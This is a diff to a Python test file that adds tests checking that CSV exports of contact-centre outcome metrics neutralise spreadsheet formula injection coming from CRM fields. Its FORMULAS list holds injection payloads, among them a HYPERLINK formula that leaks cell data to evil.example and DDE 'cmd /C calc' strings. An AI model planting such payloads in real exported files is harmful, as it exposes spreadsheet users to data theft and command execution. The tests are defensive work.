@@ -165,3 +165,26 @@ def test_compute_outcomes_has_every_metric_its_definition_and_a_csv():
     assert ["repeat_contacts", "billing", "rate", 0.5] in rows
     assert ["breaks", "ag_2", "minutes_above_threshold", 12.5] in rows
     assert ["time_to_resolution", "all", "median_hours", ""] in rows
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULA_START = tuple("=+-@\t\r")
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_from_crm_text_never_start_a_formula(formula):
+    """Issue 11: journey stages and agent ids come from CRM events; a spreadsheet must read them as text."""
+    stats = {"per_agent": {formula: {"granted": 1, "minutes_above_threshold": -0.5}}, "totals": {"granted": 1}}
+    history = History(interactions=[I("a1", "cus_a", 2, journey_stage=formula), I("a2", "cus_a", 5)], breaks=stats)
+    rows = csv_rows(compute_outcomes(history, WINDOW))
+    groups = {row[1] for row in rows}
+    assert formula not in groups and "'" + formula in groups
+    assert ["breaks", "'" + formula, "minutes_above_threshold", -0.5] in rows  # a negative number stays a number
+    assert not [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith(FORMULA_START)]
+
+
+def test_csv_keeps_ordinary_text_and_numbers_as_they_are():
+    assert oc.spreadsheet_cell("billing") == "billing" and oc.spreadsheet_cell("ag_1") == "ag_1"
+    assert oc.spreadsheet_cell(-0.25) == -0.25 and oc.spreadsheet_cell(0) == 0 and oc.spreadsheet_cell("") == ""
+    assert oc.spreadsheet_cell("-1") == "'-1"  # text that only looks like a number came from outside: quoted
